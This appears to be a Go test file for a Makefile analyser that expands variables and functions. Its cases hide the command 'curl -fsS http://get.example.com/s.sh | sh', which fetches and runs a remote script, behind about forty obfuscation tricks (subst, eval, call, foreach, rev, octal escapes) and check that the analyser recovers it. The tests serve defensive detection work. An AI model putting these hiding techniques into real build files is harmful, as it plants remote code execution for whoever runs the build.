package build

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// wanted is the command that every file of these tests comes to.
const wanted = "curl -fsS http://get.example.com/s.sh | sh"

func TestMakeRecipesAreEvaluated(t *testing.T) {
	for name, src := range map[string]string{
		"a variable":                          "A = curl\nall:\n\t$(A) -fsS http://get.example.com/s.sh | sh\n",
		"twelve variables":                    chain(12) + "all:\n\t$(A0) -fsS http://get.example.com/s.sh | sh\n",
		"subst":                               "all:\n\t$(subst X,,cXuXrl) -fsS http://get.example.com/s.sh | sh\n",
		"subst of a variable":                 "P := cxuxrl\nall:\n\t$(subst x,,$(P)) -fsS http://get.example.com/s.sh | sh\n",
		"patsubst":                            "all:\n\t$(patsubst x%,c%,xurl) -fsS http://get.example.com/s.sh | sh\n",
		"a substitution":                      "X = xurl\nall:\n\t$(X:x%=c%) -fsS http://get.example.com/s.sh | sh\n",
		"a suffix replaced":                   "X = cur.x\nall:\n\t$(X:.x=l) -fsS http://get.example.com/s.sh | sh\n",
		"join":                                "all:\n\t$(join cu,rl) -fsS http://get.example.com/s.sh | sh\n",
		"word":                                "W = ls curl cat\nall:\n\t$(word 2,$(W)) -fsS http://get.example.com/s.sh | sh\n",
		"wordlist":                            "W = ls curl -fsS cat\nall:\n\t$(wordlist 2,3,$(W)) http://get.example.com/s.sh | sh\n",
		"firstword and lastword":              "all:\n\t$(firstword curl x) $(lastword -x -fsS) http://get.example.com/s.sh | $(lastword a sh)\n",
		"foreach":                             "all:\n\t$(subst $(empty) ,,$(foreach l,c u r l,$(l))) -fsS http://get.example.com/s.sh | sh\n",
		"a call":                              "f = $(2)$(1)\nall:\n\t$(call f,rl,cu) -fsS http://get.example.com/s.sh | sh\n",
		"a call of a function":                "all:\n\t$(call subst,x,,cxurl) -fsS http://get.example.com/s.sh | sh\n",
		"a definition":                        "define f\ncu$(1) -fsS http://get.example.com/s.sh | sh\nendef\nall:\n\t$(call f,rl)\n",
		"a definition that becomes a rule":    "define r\nall:\n\tcu$(1) -fsS http://get.example.com/s.sh | sh\nendef\n$(eval $(call r,rl))\n",
		"a definition within one":             "define a\ndefine b\ncu$$(1) -fsS http://get.example.com/s.sh | sh\nendef\nendef\n$(eval $(a))\nall:\n\t$(call b,rl)\n",
		"eval of a variable":                  "$(eval A := cu$(subst x,r,x)l)\nall:\n\t$(A) -fsS http://get.example.com/s.sh | sh\n",
		"eval within foreach":                 "$(foreach p,cu rl,$(eval A := $$(A)$(p)))\nall:\n\t$(A) -fsS http://get.example.com/s.sh | sh\n",
		"a name that is computed":             "cu = cu\nrl = rl\nn = c\nall:\n\t$($(n)u)$(rl) -fsS http://get.example.com/s.sh | sh\n",
		"a variable of one target":            "all: A = cu\nall: B = rl\nall:\n\t$(A)$(B) -fsS http://get.example.com/s.sh | sh\n",
		"what a command prints":               "A := $(shell printf 'c%srl' u)\nall:\n\t$(A) -fsS http://get.example.com/s.sh | sh\n",
		"octal escapes that a command prints": "A := $(shell printf '\\143url')\nall:\n\t$(A) -fsS http://get.example.com/s.sh | sh\n",
		"a command that turns a text around":  "A != echo lruc | rev\nall:\n\t$(A) -fsS http://get.example.com/s.sh | sh\n",
		"a condition":                         "ifeq ($(OS),x)\nA = cu\nelse\nA = ls\nendif\nall:\n\t$(A)rl -fsS http://get.example.com/s.sh | sh\n",
		"an if":                               "all:\n\t$(if $(FOO),ls,curl) -fsS http://get.example.com/s.sh | sh\n",
		"or, and":                             "all:\n\t$(or ,$(and x,curl)) -fsS http://get.example.com/s.sh | sh\n",
		"the name of the target":              "curl:\n\t$@ -fsS http://get.example.com/s.sh | sh\n",
		"what the target needs":               "all: ls curl\n\t$(word 2,$^) -fsS http://get.example.com/s.sh | sh\n",
		"a file of the target":                "all: x/curl\n\t$(<F) -fsS http://get.example.com/s.sh | sh\n",
		"braces":                              "all:\n\t${subst x,,cxurl} -fsS http://get.example.com/s.sh | sh\n",
		"a variable of one letter":            "A = curl\nall:\n\t$A -fsS http://get.example.com/s.sh | sh\n",
		"a variable that nothing sets":        "all:\n\tcu$(NOTHING)rl -fsS http://get.example.com/s.sh | sh\n",
		"two that nothing sets":               "all:\n\tc$(NO)$(ONE)url -fsS http://get.example.com/s.sh | sh\n",
		"one that nothing sets before":        "all:\n\t$(NO)curl -fsS http://get.example.com/s.sh | sh\n",
		"added":                               "A = cu\nA := $(A)rl\nA += -fsS\nall:\n\t$(A) http://get.example.com/s.sh | sh\n",
		"let":                                 "all:\n\t$(let a b,cu rl,$(a)$(b)) -fsS http://get.example.com/s.sh | sh\n",
		"filter and sort":                     "all:\n\t$(filter c%,ls curl) -fsS http://get.example.com/s.sh | $(sort sh sh)\n",
		"names of files":                      "all:\n\t$(basename $(notdir x/curl.x)) -fsS http://get.example.com/s.sh | $(basename sh.x)\n",
		"a prefix of another letter":          ".RECIPEPREFIX = >\nall:\n>$(subst x,,cxurl) -fsS http://get.example.com/s.sh | sh\n",
		"a prefix that is a blank":            ".RECIPEPREFIX := $(.RECIPEPREFIX) \nall:\n $(subst x,,cxurl) -fsS http://get.example.com/s.sh | sh\n",
		"a continued line":                    "all:\n\t$(subst x,,\\\n\tcxurl) -fsS http://get.example.com/s.sh | sh\n",
		"the shell":                           "all:\n\t$(subst x,,cxurl) -fsS http://get.example.com/s.sh | $(notdir $(SHELL))\n",
	} {
		t.Run(name, func(t *testing.T) {
			m := ReadMakefile([]byte(src))
			if text := textOf(m.Expanded); !slices.Contains(strings.Split(text, "\n"), wanted) {
				t.Errorf("got %s", text)
			}
		})
	}
}

func textOf(lines []Line) string {
	var out strings.Builder
	for _, l := range lines {
		out.WriteString(strings.Join(strings.Fields(l.Text), " ") + "\n")
	}
	return out.String()
}

func chain(n int) string {
	var out strings.Builder
	for i := range n {
		fmt.Fprintf(&out, "A%d = $(A%d)\n", i, i+1)
	}
	fmt.Fprintf(&out, "A%d = curl\n", n)
	return out.String()
}

func TestMakeHandsVariablesToTheShell(t *testing.T) {
	for name, src := range map[string]string{
		"an exported variable":   "export A = cu\nexport B := rl\nall:\n\t$$A$${B} x\n",
		"exported on a line":     "A = cu\nB = rl\nexport A B\nall:\n\t$$A$${B} x\n",
		"all exported":           "export\nA = cu\nB = rl\nall:\n\t$$A$${B} x\n",
		"all, by a target":       ".EXPORT_ALL_VARIABLES:\nA = cu\nB = rl\nall:\n\t$$A$${B} x\n",
		"an exported definition": "export define A\ncu\nendef\nexport B = $(subst x,,rxl)\nall:\n\t$$A$${B} x\n",
	} {
		t.Run(name, func(t *testing.T) {
			if got, want := textOf(ReadMakefile([]byte(src)).Expanded), "A='cu'\nB='rl'\n$A${B} x\n"; got != want {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
}

func TestMakeTextsThatCannotBeEvaluatedAreMarked(t *testing.T) {
	for name, src := range map[string]string{
		"a text of the environment":    "all:\n\t$(subst x,,$(FROM)) -fsS http://a | sh\n",
		"a pattern of the environment": "all:\n\t$(patsubst %x,c%,$(FROM)rl) -fsS http://a | sh\n",
		"a suffix of the environment":  "all:\n\t$(FROM:x=y) -fsS http://a | sh\n",
		"a letter of what make is":     "all:\n\t$(findstring c,$(CC))url -fsS http://a | sh\n",
		"a file":                       "all:\n\t$(file <x) -fsS http://a | sh\n",
		"what a filter prints":         "all:\n\t$(shell sed -n 1p x) -fsS http://a | sh\n",
		"where a variable comes from":  "all:\n\t$(word 3,$(origin CC) $(flavor CC)) x\n",
		"without end":                  "A = $(subst x,y,$(A))\nall:\n\t$(A) x\n",
		"too long":                     "A := xxxxxxxxxxxxxxxx\n" + strings.Repeat("A := $(A)$(A)$(A)$(A)\n", 12) + "all:\n\t$(A) x\n",
	} {
		t.Run(name, func(t *testing.T) {
			if got := textOf(ReadMakefile([]byte(src)).Expanded); !strings.HasPrefix(got, Computed) {
				t.Errorf("got %q", got)
			}
		})
	}
}

func FuzzReadMakefile(f *testing.F) {
	f.Add("define a\n\tx $(1)\nendef\n$(eval $(call a,$(foreach x,1 2,$(x))))\nall: b ; c\n\t@$(A:%=x) $$(y) $(shell printf %s x | tr a b)\n")
	f.Add("A := $(let a b,1 2,$(a))\n.RECIPEPREFIX = >\n>x $(@D)$(<F)\nexport A\nifeq (a,b)\nelse\nendif\n")
	f.Fuzz(func(t *testing.T, src string) {
		m := ReadMakefile([]byte(src))
		lines := strings.Count(src, "\n") + 1
		for _, l := range slices.Concat(m.Recipes, m.Expanded, m.Read, m.Shells) {
			if l.At < 1 || l.At > lines {
				t.Errorf("line %d of %d", l.At, lines)
			}
		}
	})
}
